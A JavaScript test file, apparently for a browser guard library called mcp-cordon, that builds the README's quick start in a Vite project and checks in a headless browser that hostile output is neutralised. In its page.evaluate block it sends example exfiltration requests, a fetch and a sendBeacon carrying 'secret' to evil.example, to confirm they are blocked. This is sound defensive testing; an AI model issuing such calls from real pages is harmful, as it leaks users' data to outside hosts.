// The README's quick start, step by step, in an empty Vite project: a guarded page that shows a hostile result.
import assert from "node:assert/strict";
import { readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { open, project, repository, run, serve } from "./support.mjs";

const readme = readFileSync(join(repository, "README.md"), "utf8");
const [, section] = /\n## Quick start\n(.*?)\n## /s.exec(readme);
const [, install] = /```sh\n(.*?)\n```/s.exec(section);
const [, code] = /```js\n(.*?)\n```/s.exec(section);

test("the quick start, in an empty Vite project", async (t) => {
  assert.equal(install, "npm install mcp-cordon");
  const directory = project(t, {
    "index.html": `<!doctype html><title>App</title><div id="output"></div><script type="module" src="/main.js"></script>`,
    "main.js": `${code}\nwindow.guard = guard;`,
  });
  symlinkSync(join(repository, "node_modules/vite"), join(directory, "node_modules/vite"));
  run(directory, process.execPath, "node_modules/vite/bin/vite.js", "build");
  const asked = [];
  const said = [];
  const { page, errors } = await open(t, "about:blank");
  page.on("request", (request) => asked.push(request.url()));
  page.on("console", (message) => said.push(message.text()));
  const origin = await serve(t, join(directory, "dist"));
  await page.goto(origin);
  await page.waitForFunction(() => document.querySelector("#output").firstChild && window.guard, null, {
    timeout: 60_000,
  });

  assert.equal(await page.innerText("#output td"), "42");
  assert.match(await page.innerText("#output"), /evil\.example/, "it says what was blocked");
  assert.equal(await page.locator("#output script, #output img").count(), 0);
  const outcome = await page.evaluate(async () => {
    const refused = await fetch("https://evil.example/?said=secret").then(
      () => "sent",
      (error) => error.name,
    );
    return [refused, navigator.sendBeacon("https://evil.example/", "secret"), window.guard.violations.length];
  });
  assert.equal(outcome[0] === "sent" || outcome[1], false, `${outcome}`);
  assert.ok(outcome[2] >= 2, `${outcome}`);
  assert.ok(
    said.some((text) => /element-script/.test(text) && /resource-blocked/.test(text)),
    `${said}`,
  );
  assert.ok(
    said.some((text) => /^refused: /.test(text)),
    `${said}`,
  );
  assert.deepEqual([asked.filter((url) => url.includes("evil.example")), errors], [[], []]);
});
